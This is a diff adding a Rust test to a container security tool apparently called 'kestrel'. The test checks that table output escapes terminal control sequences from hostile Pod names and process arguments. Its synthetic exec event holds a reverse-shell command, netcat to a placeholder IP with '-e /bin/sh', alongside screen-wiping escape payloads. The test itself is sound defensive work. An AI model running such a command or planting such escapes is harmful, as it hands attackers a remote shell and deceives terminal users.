@@ -342,3 +342,43 @@ fn a_reader_that_went_away_ends_the_command_quietly() {
         assert!(out.status.success() && err.is_empty(), "{args:?}: {:?} {err}", out.status);
     }
 }
+
+/// What an input calls itself reaches a table without its control characters: a manifest's name, a process's
+/// name and arguments with an escape sequence that would wipe the screen or retitle the window are written out
+/// escaped — on a terminal or into a file — while JSON keeps the exact string (escaped its own way).
+#[test]
+fn a_table_writes_no_control_character_an_input_chose() {
+    let dir = tempfile::tempdir().unwrap();
+    let manifest = dir.path().join("pod.yaml");
+    std::fs::write(
+        &manifest,
+        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: \"web\\e[2J\\e]0;owned\\a\"\nspec:\n  containers:\n  - name: a\n    image: nginx\n",
+    )
+    .unwrap();
+    let table = dir.path().join("out.txt");
+    let out = kestrel().args(["config", "-f", "table"]).arg(&manifest).output().unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    kestrel().args(["config", "-f", "table", "-o"]).arg(&table).arg(&manifest).assert().success();
+    for text in [String::from_utf8(out.stdout).unwrap(), std::fs::read_to_string(&table).unwrap()] {
+        assert!(text.contains("web\\u{1b}[2J\\u{1b}]0;owned\\u{7}"), "{text}");
+        assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{text:?}");
+    }
+    let out = kestrel().args(["config", "-f", "json"]).arg(&manifest).output().unwrap();
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let named =
+        v["findings"].as_array().unwrap().iter().any(|f| f["resource"] == "Pod web\u{1b}[2J\u{1b}]0;owned\u{7}");
+    assert!(named, "{v:#}");
+    // A process's name and arguments, replayed and alerted on as tables.
+    let rec = dir.path().join("r.jsonl");
+    let exec = serde_json::json!({"schema": "kestrel.event/v1", "time_ns": 5, "pid": 7, "tid": 7, "comm": "nc",
+        "cgroup_id": 1, "container": {"id": "c1", "runtime": "runc"}, "kind": "exec", "ppid": 1, "parent_comm": "nginx",
+        "uid": 0, "gid": 0, "euid": 0, "exe": "/bin/nc", "argv": ["/bin/nc", "198.51.100.7", "9001", "-e", "/bin/sh", "\u{1b}[2J\u{9b}1m"],
+        "cap_effective": 0});
+    std::fs::write(&rec, format!("{{\"schema\":\"kestrel.trace/v1\",\"started_ns\":1}}\n{exec}\n")).unwrap();
+    for args in [&["replay", "-f", "table"][..], &["detect", "-q", "--no-profiles", "-f", "table"]] {
+        let out = kestrel().args(args).arg(&rec).output().unwrap();
+        let text = String::from_utf8(out.stdout).unwrap();
+        assert!(text.contains("\\u{1b}[2J\\u{9b}1m"), "{args:?}: {text}");
+        assert!(!text.chars().any(|c| c.is_control() && c != '\n'), "{args:?}: {text:?}");
+    }
+}
